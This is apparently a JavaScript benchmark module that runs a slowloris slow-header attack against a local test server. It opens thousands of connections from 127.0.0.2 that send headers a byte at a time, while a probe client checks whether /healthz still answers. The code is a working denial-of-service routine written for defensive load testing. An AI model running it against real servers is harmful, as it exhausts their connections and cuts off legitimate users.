// Hostile input: slow headers (slowloris, issue 20 finding 14). Up to 5,000 connections from one
// client address, each sending the start of a request and then a header byte now and then, never
// the end of its headers; beside them a client of another address asks /healthz every 100 ms.
// The note says how many the server refused at once (the per-address cap), how many it held and
// for how long (the headers timeout), and how the other client fared.
//
// The connections come from 127.0.0.2, not 127.0.0.1: the bench server trusts 127.0.0.1 as a
// reverse proxy (DMS_TRUSTED_PROXIES, for the login flood's forwarded addresses), and a trusted
// proxy's address is held to the total cap only, since it carries many clients.
import { execFileSync } from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import { sleep } from '../lib.mjs';

const attackerAddress = '127.0.0.2';
const probeAddress = '127.0.0.3';
const wantedConnections = 5_000;
const connectBatch = 250;
const dribbleEveryMs = 1_000;
/** The server's headers timeout is 10 s by default; what is still open after this is closed here. */
const deadlineMs = 14_000;

/** Connections this process may open, leaving room for the rest of the bench. */
function connectionBudget() {
  try {
    const limit = Number(execFileSync('sh', ['-c', 'ulimit -n'], { encoding: 'utf8' }).trim());
    return Number.isFinite(limit) ? Math.max(100, Math.min(wantedConnections, limit - 500)) : wantedConnections;
  } catch {
    return 1_000;
  }
}

/** One slow-header connection; resolves once it is connected (or already closed). */
function slowConnection(url, opened) {
  return new Promise((resolve) => {
    const socket = net.connect({ host: url.hostname, port: Number(url.port), localAddress: attackerAddress });
    const connection = { socket, openedAt: 0, closedAt: 0, answer: '' };
    opened.push(connection);
    socket.on('error', () => {});
    socket.on('data', (chunk) => {
      if (connection.answer.length < 64) connection.answer += chunk.toString('latin1');
    });
    socket.once('connect', () => {
      connection.openedAt = performance.now();
      socket.write(`GET /healthz HTTP/1.1\r\nHost: ${url.host}\r\nX-Slow: `);
      resolve();
    });
    socket.once('close', () => {
      connection.closedAt = performance.now();
      resolve();
    });
  });
}

function healthz(url) {
  return new Promise((resolve) => {
    const started = performance.now();
    const req = http.get(new URL('/healthz', url), { agent: false, localAddress: probeAddress, timeout: 5_000 }, (res) => {
      res.resume();
      res.on('end', () => resolve({ ok: res.statusCode === 200, ms: performance.now() - started }));
    });
    req.on('timeout', () => req.destroy());
    req.on('error', () => resolve({ ok: false, ms: performance.now() - started }));
  });
}

export async function attack(target) {
  const url = new URL(target.origin);
  const count = connectionBudget();
  const opened = [];
  const started = performance.now();

  let probing = true;
  const probes = { answered: 0, failed: 0, slowestMs: 0 };
  const probeLoop = (async () => {
    while (probing) {
      const { ok, ms } = await healthz(url);
      if (ok) probes.answered += 1;
      else probes.failed += 1;
      probes.slowestMs = Math.max(probes.slowestMs, ms);
      await sleep(100);
    }
  })();

  for (let i = 0; i < count; i += connectBatch) {
    await Promise.all(Array.from({ length: Math.min(connectBatch, count - i) }, () => slowConnection(url, opened)));
  }
  const connectedMs = performance.now() - started;
  // A refused connection is closed at accept; give those closes a moment to arrive.
  await sleep(200);
  const refusedAtOnce = opened.filter((c) => c.closedAt !== 0 && (c.openedAt === 0 || c.closedAt - c.openedAt < 200)).length;

  const dribble = setInterval(() => {
    for (const c of opened) if (c.closedAt === 0 && c.openedAt !== 0) c.socket.write('x');
  }, dribbleEveryMs);
  const deadline = started + deadlineMs;
  while (opened.some((c) => c.closedAt === 0) && performance.now() < deadline) await sleep(100);
  clearInterval(dribble);
  // Closed by the server by now; the rest are closed here.
  const held = opened.filter((c) => c.openedAt !== 0 && c.closedAt !== 0 && c.closedAt - c.openedAt >= 200);
  const leftOpen = opened.filter((c) => c.closedAt === 0).length;
  for (const c of opened) c.socket.destroy();
  probing = false;
  await probeLoop;

  const heldSeconds = held.map((c) => (c.closedAt - c.openedAt) / 1000);
  const answered408 = held.filter((c) => c.answer.startsWith('HTTP/1.1 408')).length;
  const range = heldSeconds.length ? `${Math.min(...heldSeconds).toFixed(1)}–${Math.max(...heldSeconds).toFixed(1)} s` : 'none';
  target.log(
    `${opened.length} opened in ${(connectedMs / 1000).toFixed(1)} s, ${refusedAtOnce} refused at once, ${held.length} held (${range}), ${leftOpen} still open at ${deadlineMs / 1000} s`,
  );
  return (
    `${opened.length} slow-header connections from ${attackerAddress} (a header byte every ${dribbleEveryMs / 1000} s, fd budget ${count}): ` +
    `${refusedAtOnce} closed at accept, ${held.length} held for ${range} until the server closed them (${answered408} with a 408), ${leftOpen} still open after ${deadlineMs / 1000} s (closed by the bench); ` +
    `/healthz from ${probeAddress} every 100 ms meanwhile: ${probes.answered} answered, ${probes.failed} failed, slowest ${Math.round(probes.slowestMs)} ms`
  );
}
